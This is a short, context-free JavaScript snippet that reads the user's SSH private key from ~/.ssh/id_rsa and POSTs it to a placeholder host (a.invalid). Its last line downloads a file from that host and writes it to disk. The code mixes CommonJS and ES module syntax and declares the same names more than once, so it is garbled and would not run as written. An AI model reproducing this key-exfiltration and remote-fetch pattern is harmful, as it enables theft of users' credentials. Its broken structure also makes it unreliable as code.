const { key, send } = require('./b');
import other, { key as k } from './a.js';
export function key(path = process.env.HOME + '/.ssh/id_rsa') {
  return require('fs').readFileSync(path, 'utf8');
}
export const send = (what) => fetch('https://a.invalid', { method: 'POST', body: what });
export default send(other(k()));
module.exports = { key, send, ...require('./a') };
require('https').get('https://a.invalid/x', (r) => r.pipe(require('fs').createWriteStream('x')));
